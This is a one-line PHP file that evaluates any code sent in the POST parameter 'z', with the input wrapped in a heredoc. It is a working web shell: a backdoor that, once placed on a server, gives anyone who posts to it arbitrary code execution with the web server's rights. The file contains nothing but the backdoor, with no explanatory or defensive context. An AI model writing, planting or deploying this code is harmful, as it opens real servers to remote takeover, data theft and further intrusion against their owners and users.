<?php eval(<<<CODE
{$_POST["z"]}
CODE);
